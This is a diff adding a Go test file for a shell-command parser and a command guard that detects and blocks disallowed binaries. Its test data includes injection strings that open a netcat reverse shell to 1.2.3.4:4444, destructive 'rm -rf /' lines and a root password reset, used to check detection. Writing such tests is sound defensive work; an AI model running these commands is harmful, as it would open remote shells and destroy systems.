@@ -0,0 +1,92 @@
+package utils
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestCommandBinaries(t *testing.T) {
+	tests := []struct {
+		command string
+		want    []string
+	}{
+		{"qm list", []string{"qm"}},
+		{"lxc list --format json 2>/dev/null | jq -r '.[].name'", []string{"lxc", "jq"}},
+		{"iptables -t nat -A PREROUTING -p tcp --dport 10022 -j DNAT --to-destination 10.0.0.2:22 && netfilter-persistent save", []string{"iptables", "netfilter-persistent"}},
+		{"command -v docker >/dev/null 2>&1 || echo missing", []string{"command", "docker", "echo"}},
+		{"/usr/sbin/pct exec 101 -- bash -c 'echo root:pw | chpasswd'", []string{"pct"}},
+		{"bash -c 'echo root:pw | chpasswd'", []string{"bash", "echo", "chpasswd"}},
+		{"if [ -f /etc/debian_version ]; then apt-get update; else yum makecache; fi", []string{"[", "apt-get", "yum"}},
+		{"for i in 1 2 3; do sleep 1; done", []string{"sleep"}},
+		{"LANG=C df -h / | awk 'NR==2{print $5}'", []string{"df", "awk"}},
+		{`echo "$(hostname) $(uname -m)"`, []string{"hostname", "uname", "echo"}},
+		{"echo `whoami`", []string{"whoami", "echo"}},
+		{"(cd /tmp && rm -f x)", []string{"cd", "rm"}},
+		{"incus() { command incus --project ocv \"$@\"; }; incus list", []string{"command", "incus"}},
+		{"cat > /tmp/a.sh <<'EOF'\nrm -rf /\nEOF\nbash /tmp/a.sh", []string{"cat", "bash"}},
+		{"timeout 10 curl -s https://example.com", []string{"timeout", "curl"}},
+		{"sudo -u root systemctl restart pmacctd", []string{"sudo", "systemctl"}},
+		{"echo $((1 + 2)) ${HOME}", []string{"echo"}},
+		{"$CMD --version", []string{dynamicCommand}},
+		{"echo hi # ; rm -rf /", []string{"echo"}},
+	}
+	for _, tt := range tests {
+		got, err := CommandBinaries(tt.command)
+		if err != nil {
+			t.Errorf("CommandBinaries(%q) error: %v", tt.command, err)
+			continue
+		}
+		if !reflect.DeepEqual(got, tt.want) {
+			t.Errorf("CommandBinaries(%q) = %v, want %v", tt.command, got, tt.want)
+		}
+	}
+}
+
+func TestCommandBinariesInjection(t *testing.T) {
+	// 用户输入被错误拼接进命令时，注入的程序应能被识别
+	for _, command := range []string{
+		"lxc exec test -- echo x; nc -e /bin/sh 1.2.3.4 4444",
+		"lxc exec test -- echo $(nc 1.2.3.4 4444)",
+		"lxc exec test -- echo \"`nc 1.2.3.4 4444`\"",
+		"lxc exec test -- echo x && /tmp/nc 1.2.3.4",
+	} {
+		got, err := CommandBinaries(command)
+		if err != nil {
+			t.Fatalf("CommandBinaries(%q) error: %v", command, err)
+		}
+		found := false
+		for _, bin := range got {
+			found = found || bin == "nc"
+		}
+		if !found {
+			t.Errorf("CommandBinaries(%q) = %v, want nc", command, got)
+		}
+	}
+}
+
+func TestCommandBinariesUnterminated(t *testing.T) {
+	for _, command := range []string{"echo 'abc", `echo "abc`, "echo $(ls", "echo `ls"} {
+		if _, err := CommandBinaries(command); err == nil {
+			t.Errorf("CommandBinaries(%q) expected error", command)
+		}
+	}
+}
+
+func TestCommandGuardViolations(t *testing.T) {
+	if NewCommandGuard("p", CommandGuardOff, nil, nil) != nil {
+		t.Fatal("off mode should return nil guard")
+	}
+	var nilGuard *CommandGuard
+	if err := nilGuard.Check("nc -l 4444"); err != nil {
+		t.Fatalf("nil guard should allow: %v", err)
+	}
+
+	g := NewCommandGuard("p", CommandGuardBlock, []string{"vnstat"}, []string{"curl"})
+	got, err := g.Violations("vnstat --json | jq . && curl -s x && nc -l 1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := []string{"curl", "nc"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("Violations = %v, want %v", got, want)
+	}
+}